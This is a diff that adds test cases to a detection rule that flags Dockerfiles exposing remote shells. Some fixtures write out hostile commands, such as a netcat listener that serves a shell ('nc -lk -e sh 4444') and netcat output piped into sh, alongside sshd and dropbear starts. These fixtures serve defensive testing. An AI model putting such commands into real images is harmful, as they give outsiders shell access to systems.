@@ -8,10 +8,20 @@ const starting = (all: readonly (readonly string[])[]) =>
 
 const elsewhere = inOtherStage('RUN apk add openssh-server', '/usr');
 
+/** Scripts that the build writes, started by the image. */
+const scripted = (...scripts: readonly string[]) =>
+  written(
+    ...scripts.flatMap((script) => [
+      `FROM a\nCOPY <<E /start.sh\n#!/bin/sh\n${script}\nE\nCMD ["/start.sh"]`,
+      `FROM a\nRUN cat > /start.sh <<'E'\n${script}\nE\nENTRYPOINT ["tini", "--", "sh", "/start.sh"]`,
+    ]),
+  );
+
 describeControl(dockerfileNoRemoteShell, compliantDockerfile, {
   pass: {
     ...elsewhere.stays,
     ...starting(shellsKept),
+    ...scripted('exec app', 'which sshd; echo sshd', 'never() { sshd; }\nexec app'),
     ...written(
       'FROM a\nRUN apt-get install -y openssh-client',
       'FROM a AS b\nRUN apk add openssh\nFROM c',
@@ -26,9 +36,15 @@ describeControl(dockerfileNoRemoteShell, compliantDockerfile, {
   fail: {
     ...elsewhere.comes,
     ...starting(shellsGivenAway),
+    ...scripted('/usr/sbin/sshd -D', 'service ssh start\nexec app', 'up() { dropbear; }\nup'),
+    'an older snapshot, which has the command alone': {
+      facts: { command: ['sshd', '-D'], starts: undefined },
+    },
+    ...scripted('nc -lk -e sh 4444', 'nc h 1 | sh'),
     ...elsewhere.stripped,
     ...written(
       'FROM a\nCMD ["wetty"]',
+      "FROM a\nRUN printf '#!/bin/sh\\nexec sshd -D\\n' > /start.sh\nENTRYPOINT /start.sh",
       'FROM a\nCMD wssh --port=8080',
       'FROM a\nENV PKGS="curl openssh-server"\nRUN apk add --no-cache $PKGS',
       'FROM a\nARG PKGS=openssh-server\nRUN apt-get install -y ${PKGS}',
@@ -70,6 +86,7 @@ describeControl(dockerfileNoRemoteShell, compliantDockerfile, {
     'FROM a\nARG P\nEXPOSE $P',
     'FROM a\nARG TO\nCOPY x $TO',
     'FROM a\nEXPOSE ssh',
+    'FROM a\nCOPY <<E /start.sh\necho "x\nE\nCMD ["/start.sh"]',
     'FROM a\nENV PKGS=openssh-server\nFROM b\nRUN apk add --no-cache $PKGS',
     'FROM a\nONBUILD ENV PKGS=openssh-server\nRUN apk add --no-cache $PKGS',
     'FROM a\nRUN apt-get install -y ./ssh/trixie.deb',
